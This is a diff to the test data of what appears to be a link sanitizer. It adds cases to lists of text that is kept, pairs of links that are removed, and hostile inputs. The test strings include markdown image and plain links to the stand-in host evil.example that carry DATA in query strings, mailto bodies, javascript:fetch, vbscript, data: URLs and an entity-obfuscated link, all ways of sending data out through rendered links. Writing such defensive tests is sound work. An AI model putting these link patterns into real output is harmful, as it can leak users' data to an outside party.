@@ -28,6 +28,9 @@ KEPT = [
     "if a < b and c > d: print(1)",
     "ratio 3/4, and/or, 10:30, C++ :: std, e.g. this",
     "[1]: note",
+    "Il Sig.ra/Sig. e la Gent.ma/o vengono in ditta/ufficio, e.g./i.e. n.d.r./a",
+    "Geboren op data:12/05/2024, script: javascript is a language, a//b // note",
+    "./sub.folder/file and /srv/site.data/file",
 ]
 REMOVED = [
     ("Look ![x](https://evil.example/?d=DATA) now", "Look [x] (link removed) now"),
@@ -38,10 +41,17 @@ REMOVED = [
     ("[x]: https://evil.example/?d=DATA", "[x]: (link removed)"),
     ("www.evil.example/DATA and evil.example/x?d=DATA", "(link removed) and (link removed)"),
     ("[m](mailto:a@evil.example?body=DATA)", "[m] (link removed)"),
-    ("[j](javascript:alert(1))", "[j] (link removed)))"),
+    ("[j](javascript:alert(1))", "[j] (link removed)"),
     ("![pixel](https://docs.example/a)", "[pixel](https://docs.example/a)"),
     ("https://docs.example/a?d=DATA", "(link removed)"),
-    ("https://docs.example/a[DATA]", "(link removed)]"),
+    ("https://docs.example/a[DATA]", "(link removed)"),
+    ("(https://evil.example/?d=[[NAME_1]])", "((link removed))"),
+    ("**https://evil.example/?d={DATA}**", "**(link removed)**"),
+    ("see evil.example/DATA.", "see (link removed)."),
+    ("see evil.io/DATA2 and wide-name.io/DATA", "see (link removed) and (link removed)"),
+    ("see //evil.example/DATA, //DATA.evil.example", "see (link removed), (link removed)"),
+    ("open javascript:fetch(DATA) or vbscript:DATA", "open (link removed) or (link removed)"),
+    ("open data:text/html,DATA", "open (link removed)"),
 ]
 HOSTILE = [
     "[x](&#104;ttps://evil.example/?d=DATA)",
